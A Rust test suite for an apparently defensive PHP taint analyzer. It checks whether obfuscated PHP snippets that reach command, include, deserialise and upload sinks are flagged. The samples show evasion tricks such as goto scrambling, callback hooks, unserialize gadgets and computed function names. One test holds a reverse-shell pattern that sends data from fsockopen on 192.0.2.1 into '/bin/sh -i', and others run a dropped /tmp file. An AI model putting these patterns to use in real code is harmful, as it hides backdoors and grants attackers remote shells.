//! Code that does not stand in the order in which it runs, and calls on roundabout ways. Inert.

use crate::language::Language::Php;
use crate::library::check::check;

#[test]
fn jumps() {
    check(
        Php,
        &[
            (
                "<?php goto c; a: $v = $demo_array['k']; goto d; b: $f .= 'nk'; goto a; c: $f = 'demo_si'; goto b; d: $f($v);",
                "Command demo_sink Parameter:k Whole computed",
            ),
            // A condition that nobody knows: both ways are gone.
            (
                "<?php goto a; b: echo 1; goto e; c: demo_sink($demo_array['k']); goto e; a: if (!isset($_GET['p'])) { goto b; } goto c; e: ;",
                "Command demo_sink Parameter:k Whole",
            ),
            // Inside of a function, and out of a loop.
            (
                "<?php function f($x) { goto b; a: return strrev($x); b: while (1) { goto a; } } demo_sink(f($demo_array['k']));",
                "Command demo_sink Parameter:k Whole decoded",
            ),
            // A loop of jumps, as long as its end is known.
            (
                "<?php $s = ''; $i = 0; a: if ($i > 3) { goto b; } $s .= chr(97 + $i++); goto a; b: demo_sink($s);",
                "Command demo_sink = abcd",
            ),
            // What is jumped over does not run.
            ("<?php goto a; demo_sink($demo_array['k']); a: echo 1;", ""),
            // Jumps in circles end.
            ("<?php a: if ($x) { goto b; } goto a; b: if ($y) { goto a; } goto b;", ""),
        ],
    );
}

#[test]
fn hooks() {
    check(
        Php,
        &[
            (
                "<?php yaml_parse('a: ' . $demo_array['k'], 0, $n, array('!a' => 'demo_sink'));",
                "Command demo_sink Parameter:k Part",
            ),
            (
                "<?php $p = xml_parser_create(); xml_set_character_data_handler($p, 'h'); function h($p, $d) { demo_sink($d); } xml_parse($p, $demo_array['k']);",
                "Command demo_sink Parameter:k Whole",
            ),
            (
                concat!(
                    "<?php class F extends php_user_filter { function filter($in, $out, &$c, $end) { ",
                    "while ($b = stream_bucket_make_writeable($in)) { demo_sink($b->data); } return 0; } } ",
                    "stream_filter_register('f', 'F'); $h = fopen('php://memory', 'w'); stream_filter_append($h, 'f'); fwrite($h, $demo_array['k']);"
                ),
                "Command demo_sink Parameter:k Whole",
            ),
            (
                concat!(
                    "<?php class W { function stream_open($a, $b, $c, &$d) { return true; } function stream_read($n) { return $_POST['k']; } } ",
                    "stream_wrapper_register('w', 'W'); include 'w://a';"
                ),
                "Code include Parameter:k Whole",
            ),
            // What the page reads after it told the database of its function.
            (
                "<?php $d = new PDO('a'); $d->sqliteCreateFunction('f', 'demo_sink', 1); $c = $_POST['k'];",
                "Command demo_sink Parameter:k Part",
            ),
            (
                "<?php class A { public $c; function __destruct() { demo_sink($this->c); } } unserialize($_COOKIE['k']);",
                "Deserialise unserialize Cookie:k Whole; Command demo_sink Cookie:k Whole",
            ),
            (
                "<?php class A { public $c; function show() { return $this->c; } } unserialize($_COOKIE['k']);",
                "Deserialise unserialize Cookie:k Whole",
            ),
            (
                "<?php class A { function __call($n, $a) { $n($a[0]); } } $m = $_GET['m']; (new A)->$m($_GET['k']);",
                "Invoke (function) Parameter:m Whole also",
            ),
        ],
    );
}

#[test]
fn names_from_odd_places() {
    check(
        Php,
        &[
            ("<?php $a = array('demo_sink'); $a[array_rand($a)]($demo_array['k']);", "Command demo_sink Parameter:k Whole"),
            ("<?php $a = str_getcsv('x,demo_sink'); $a[1]($demo_array['k']);", "Command demo_sink Parameter:k Whole computed"),
            (
                "<?php $a = parse_ini_string(\"[s]\\nf = demo_sink\", true); $a['s']['f']($demo_array['k']);",
                "Command demo_sink Parameter:k Whole computed",
            ),
            (
                "<?php class A { const B = 'demo_'; const C = 'sink'; } $r = new ReflectionClass('A'); $f; foreach ($r->getConstants() as $c) $f .= $c; $f($demo_array['k']);",
                "Command demo_sink Parameter:k Whole computed",
            ),
            (
                "<?php preg_match('/(?<f>demo.+)/', 'x demo_sink', $m); $m['f']($demo_array['k']);",
                "Command demo_sink Parameter:k Whole computed",
            ),
            ("<?php include 'data:text/plain,' . $demo_array['k'];", "Code include Parameter:k Part"),
        ],
    );
}

#[test]
fn what_is_declared_where_it_is_not_looked_for() {
    check(
        Php,
        &[
            // Before the branch that declares it, as a mark for a page of old.
            (
                "<?php $c = f($demo_array['k']); demo_sink($c); if ($x) { exit; } else { function f($v) { return trim($v); } }",
                "Command demo_sink Parameter:k Whole",
            ),
            (
                "<?php enum E: string { case A = 'demo_sink'; case B = 'x'; } (E::A->value)($demo_array['k']);",
                "Command demo_sink Parameter:k Whole",
            ),
            (
                "<?php $a = null; $f = $a ?? 'demo_sink'; if ($f == 'demo_sink') { $f($demo_array['k']); } else { demo_sink('x'); }",
                "Command demo_sink Parameter:k Whole",
            ),
        ],
    );
}

/// Old PHP made variables of what the page's own form and links send.
#[test]
fn variables_that_the_form_asks_for() {
    check(
        Php,
        &[
            ("<form><input type=text name=\"k\"></form><?php demo_sink($k);", "Command demo_sink Parameter:k Whole"),
            ("<?php echo '<select name=\\'k\\'>'; demo_sink($k);", "Command demo_sink Parameter:k Whole"),
            ("<a href=\"?a=1&amp;k=2\">x</a><?php demo_sink($k);", "Command demo_sink Parameter:k Whole"),
            ("<form><input name=j></form><?php demo_sink($k);", "Command demo_sink Undefined:k Whole"),
            ("<form><input name=k></form><?php $k = 'a'; demo_sink($k);", "Command demo_sink = a"),
            ("<form><input name=k></form><?php function f() { demo_sink($k); } f();", "Command demo_sink = "),
        ],
    );
}

#[test]
fn callables_and_carriers() {
    check(
        Php,
        &[
            (
                "<?php $f = Closure::fromCallable('demo_' . 'sink'); $f->call(new stdClass, $demo_array['k']);",
                "Command demo_sink Parameter:k Whole computed",
            ),
            (
                "<?php $f = date_format(new DateTime(), '\\d\\e\\m\\o_\\s\\i\\n\\k'); $f($demo_array['k']);",
                "Command demo_sink Parameter:k Whole computed",
            ),
            (
                "<?php $x = simplexml_load_string($demo_array['k']); demo_sink((string)$x->a);",
                "Command demo_sink Parameter:k Whole",
            ),
            (
                "<?php $z = new ZipArchive; $z->open($_FILES['f']['tmp_name']); $z->extractTo('.');",
                "Upload ZipArchive.extractTo Upload:tmp_name Whole also",
            ),
        ],
    );
}

/// What a list may have under any key is still there where a branch sets one.
#[test]
fn defaults_for_what_may_be_sent() {
    check(
        Php,
        &[(
            "<?php $p = array(); foreach (explode('&', $demo_array['q']) as $x) { list($n, $v) = explode('=', $x); $p[$n] = $v; } if (!isset($p['a'])) { $p['a'] = 'x'; } if (!isset($p['b'])) { $p['b'] = 'y'; } demo_sink($p['a']);",
            "Command demo_sink Parameter:q Whole",
        )],
    );
}

#[test]
fn what_may_still_be_the_request() {
    check(
        Php,
        &[
            ("<?php if (!$_POST['k']) { $_POST['k'] = 'id'; } demo_sink($_POST['k']);", "Command demo_sink Parameter:k Whole"),
            ("<?php $_POST['k'] = 'id'; demo_sink($_POST['k']);", "Command demo_sink = id"),
        ],
    );
}

#[test]
fn methods_of_traits_come_before_those_of_parents() {
    check(
        Php,
        &[(
            "<?php trait D { public $x = 'demo_sink'; public function f($a) { $b = $this->x; $b($a); } } class A { public function f() { } } class C extends A { use D; } (new C)->f($demo_array['k']);",
            "Command demo_sink Parameter:k Whole",
        )],
    );
}

#[test]
fn shells_and_files_that_are_run() {
    check(
        Php,
        &[
            // What comes from another machine goes into a shell.
            (
                "<?php $s = fsockopen('192.0.2.1', 80); $p = proc_open('id; /bin/sh -i', array(), $pipes); fwrite($pipes[0], fread($s, 9));",
                "Tunnel fsockopen = 192.0.2.1; Command proc_open = id; /bin/sh -i; Command fwrite Remote: Whole",
            ),
            (
                "<?php file_put_contents('/tmp/a', 'b'); demo_sink('chmod +x /tmp/a; /tmp/a 1');",
                "Write file_put_contents = b; Command demo_sink = chmod +x /tmp/a; /tmp/a 1 also",
            ),
            (
                "<?php file_put_contents('/tmp/a', 'b'); demo_sink('perl -w /tmp/a');",
                "Write file_put_contents = b; Command demo_sink = perl -w /tmp/a also",
            ),
            (
                "<?php file_put_contents('/tmp/a', 'b'); demo_sink('convert /tmp/a');",
                "Write file_put_contents = b; Command demo_sink = convert /tmp/a",
            ),
        ],
    );
}

#[test]
fn a_page_that_reads_its_own_rest() {
    check(
        Php,
        &[
            ("<?php // a\n$n = __line__; demo_sink($n . 'x');", "Command demo_sink = 2x"),
            ("<?php demo_sink(__LINE__ . __Line__);", "Command demo_sink = 11"),
        ],
    );
}

#[test]
fn names_that_are_one_of_some() {
    check(
        Php,
        &[
            (
                "<?php if ($x) { $f = 'strrev'; } elseif ($y) { $f = 'demo_sink'; } else { $f = 'own'; } function own($a) {} $f($demo_array['k']);",
                "Command demo_sink Parameter:k Whole",
            ),
            (
                "<?php function run($a) { demo_sink($a); } $f = 'none'; if ($_GET['m'] == 1) { $f = 'trim'; } if ($_GET['m'] == 2) { $f = 'run'; } $f($demo_array['k']);",
                "Command demo_sink Parameter:k Whole",
            ),
            ("<?php $f = $x ? 'strrev' : 'demo_sink'; $f($demo_array['k']);", "Command demo_sink Parameter:k Whole"),
            (
                "<?php $all = array('a' => 'strlen', 'b' => 'demo_sink'); $f = $all[$_GET['m']]; $f('constant');",
                "Command demo_sink = constant",
            ),
            ("<?php $f = $x ? 'strrev' : 'trim'; $f($demo_array['k']);", ""),
        ],
    );
}

#[test]
fn uploads_and_streams_by_other_names() {
    check(
        Php,
        &[
            ("<?php rename($_FILES['f']['tmp_name'], 'x');", "Upload rename Upload:tmp_name Whole also"),
            ("<?php rename($_GET['a'], 'x');", "Change rename = x also"),
            (
                "<?php $f = fopen('php://filter/convert.base64-decode/resource=' . $_GET['f'], 'w'); fwrite($f, $_POST['d']);",
                "Write fwrite Parameter:f Whole also",
            ),
            (
                "<?php class T extends php_user_filter { function filter($in, $out, &$c, $e) { while ($b = stream_bucket_make_writeable($in)) { demo_sink($b->data); } } } stream_filter_register('t', 'T'); file_put_contents('php://filter/write=t/resource=php://memory', $demo_array['k']);",
                "Command demo_sink Parameter:k Whole; Write file_put_contents Parameter:k Whole also",
            ),
            (
                "<?php class T { function __wakeup() { demo_sink($this->c); } } unserialize($demo_array['k']);",
                "Deserialise unserialize Parameter:k Whole; Command demo_sink Parameter:k Whole",
            ),
            ("<?php demo_sink(escapeshellcmd($demo_array['k']));", "Command demo_sink Parameter:k Whole"),
            ("<?php demo_sink('ls ' . escapeshellarg($demo_array['k']));", "Command demo_sink Parameter:k Weak"),
            ("<?php include 'zip://a.jpg#' . $_GET['f'];", "Include include Parameter:f Whole"),
            ("<?php include 'pages/' . $_GET['f'];", "Include include Parameter:f Weak"),
        ],
    );
}
